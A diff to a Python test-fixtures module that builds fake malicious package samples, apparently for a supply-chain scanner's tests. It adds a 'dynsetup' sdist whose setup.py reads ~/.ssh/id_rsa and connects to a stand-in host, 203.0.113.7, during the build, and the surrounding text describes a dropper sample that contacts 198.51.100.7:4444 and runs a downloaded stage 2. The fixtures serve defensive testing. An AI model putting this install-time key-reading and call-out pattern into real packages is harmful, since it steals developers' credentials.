@@ -19,6 +19,8 @@ malicious sample can carry several behaviours at once:
 | `dropper` | import: resolves a name, POSTs to it, sends to 198.51.100.7:4444, then | import |
 | | downloads a "stage 2", writes it to /tmp, chmods and runs it (the sinkhole answers) | |
 | | its test: a lookup that must fail (the tests phase is offline) | tests |
+| `dynsetup` | no static metadata; ``setup.py``: undeclared ``import fakehelper``, | install |
+| | then reads ``~/.ssh/id_rsa``, connects to 203.0.113.7:443 | (metadata) |
 
 The resource samples act in one phase only (the others stay clean) so the
 phase a finding or crash lands in is known.
@@ -28,7 +30,7 @@ from __future__ import annotations
 
 from pathlib import Path
 
-from tests.fakes.dists import build_sdist, dedent, make_project
+from tests.fakes.dists import build_sdist, build_wheel, dedent, make_project
 
 #: TEST-NET-3: never routable, so nothing leaves even a networked machine by mistake.
 EXFIL_HOST = "203.0.113.7"
@@ -303,3 +305,84 @@ def flood(dest: Path) -> list[Path]:
         dest, "flood", "1.0", package_body=_literal(FLOOD_INIT),
         test_body=UNIMPORTING_TEST,
     ).files  # fmt: skip
+
+
+_DYNSETUP_SETUP = dedent(
+    f"""
+    # The sdist's build backend (pyproject: backend-path ["."], build-backend "setup"),
+    # with metadata only a build can tell (no static Requires-Dist anywhere).
+    import base64
+    import hashlib
+    import os
+    import socket
+    import zipfile
+
+    import fakehelper  # undeclared: the isolated build environment has no such module
+
+    try:
+        with open(os.path.expanduser("~/.ssh/id_rsa")) as key:
+            key.read()
+    except OSError:
+        pass
+    try:
+        socket.create_connection(({EXFIL_HOST!r}, {EXFIL_PORT}), timeout=2).close()
+    except OSError:
+        pass
+
+    INFO = "dynsetup-1.0.dist-info"
+    METADATA = "Metadata-Version: 2.1\\nName: dynsetup\\nVersion: 1.0\\nRequires-Dist: fakedep\\n"
+
+
+    def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
+        os.makedirs(os.path.join(metadata_directory, INFO), exist_ok=True)
+        with open(os.path.join(metadata_directory, INFO, "METADATA"), "w") as f:
+            f.write(METADATA)
+        return INFO
+
+
+    def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+        files = {{
+            "dynsetup/__init__.py": open("dynsetup/__init__.py", "rb").read(),
+            INFO + "/METADATA": METADATA.encode(),
+            INFO + "/WHEEL": b"Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
+        }}
+        record = []
+        for path, data in files.items():
+            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=")
+            record.append(f"{{path}},sha256={{digest.decode()}},{{len(data)}}")
+        record.append(INFO + "/RECORD,,")
+        files[INFO + "/RECORD"] = ("\\n".join(record) + "\\n").encode()
+        name = "dynsetup-1.0-py3-none-any.whl"
+        with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as whl:
+            for path, data in files.items():
+                whl.writestr(path, data)
+        return name
+    """
+)
+_DYNSETUP_PYPROJECT = dedent(
+    """
+    [build-system]
+    requires = []
+    build-backend = "setup"
+    backend-path = ["."]
+    """
+)
+
+
+def dynamic_setup(dest: Path) -> list[Path]:
+    """An sdist without static metadata whose setup.py imports what it never declared.
+
+    Served with it: ``fakehelper`` (that import) and ``fakedep`` (the dependency only
+    the built metadata names), as wheels; ``import dynsetup`` needs ``fakedep``.
+    """
+    files = {
+        "setup.py": _DYNSETUP_SETUP,
+        "pyproject.toml": _DYNSETUP_PYPROJECT,
+        "dynsetup/__init__.py": 'import fakedep\n\n__version__ = "1.0"\n',
+        "tests/test_x.py": "def test_nothing():\n    assert True\n",
+    }
+    return [
+        build_sdist(dest, "dynsetup", "1.0", files, metadata_version="2.1"),
+        build_wheel(dest, "fakehelper", "1.0", {"fakehelper/__init__.py": ""}),
+        build_wheel(dest, "fakedep", "1.0", {"fakedep/__init__.py": ""}),
+    ]
